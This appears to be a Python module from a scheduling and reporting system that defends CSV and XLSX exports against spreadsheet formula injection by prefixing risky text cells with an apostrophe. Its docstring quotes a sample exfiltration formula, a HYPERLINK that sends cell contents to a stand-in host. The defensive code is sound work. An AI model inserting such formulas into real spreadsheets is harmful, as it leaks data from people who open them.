"""Text a spreadsheet would run as a formula, made inert: the one rule every CSV and XLSX writer applies.

A cell whose text starts with "=", "+", "-", "@", a tab or a carriage return is taken by Excel, LibreOffice and
Google Sheets as a formula (or as the start of one), and a formula can send the sheet's cells to another site
(`=HYPERLINK("http://evil.example/?"&A1,"click")`) or run a program (DDE). Such text reaches our exports from
people (campaign, site and organisation names) and from players (ids and reasons in proof-of-play records), so
every text cell, ids included, gets a leading apostrophe: OWASP's rule against CSV injection. Numbers written as
numbers (an int column's -5) are not text and stay as they are.

The writers (scheduler/reports/exports.py: CSV and XLSX of every report; operations.pop_log_csv: the log's fast
CSV; playout.py: the UK Playout file) all use what is here: `inert` for a value, `INERT_EXPRESSION` where a row is
one compiled expression, `inert_sql` where the database writes the text, `FORMULA_CELL` where a chunk of CSV lines
is checked at once.
"""

from __future__ import annotations

import re
from typing import Any

from sqlalchemy import case, func, literal
from sqlalchemy.sql.elements import ColumnElement

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
APOSTROPHE = "'"


def inert(value: Any) -> Any:
    """A cell's value as it is written: text that starts like a formula with a leading apostrophe, anything else
    (None, numbers, dates) as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return APOSTROPHE + value
    return value


# The same rule inline, for writers that compile one expression per row (a function call per cell costs more than
# the CSV writer itself): `INERT_EXPRESSION.format(value="r['name']")`, evaluated with FORMULA_STARTS as `_F` and
# `inert` as `_inert` (for what is not exactly a str: None, numbers, a str subclass such as a StrEnum).
INERT_EXPRESSION = ("(('\\'' + _v if _v.startswith(_F) else _v) if (_v := {value}).__class__ is str "
                    "else _inert(_v))")
INERT_NAMES = {"_F": FORMULA_STARTS, "_inert": inert}


def inert_sql(column: ColumnElement[str]) -> ColumnElement[str]:
    """The same rule in SQL, for text the database writes itself (PostgreSQL's COPY); NULL stays NULL."""
    return case((func.substr(column, 1, 1).in_(FORMULA_STARTS), literal(APOSTROPHE) + column), else_=column)


# A quoted CSV cell starting like a formula: `,"=` and the like. In lines where every text cell is quoted and
# follows a comma (a quote inside a cell doubled), this finds every such cell; a match elsewhere (a cell's closing
# quote before a carriage return) only costs the careful path.
FORMULA_CELL = re.compile(b',"[' + b"".join(re.escape(c.encode()) for c in FORMULA_STARTS) + b"]")
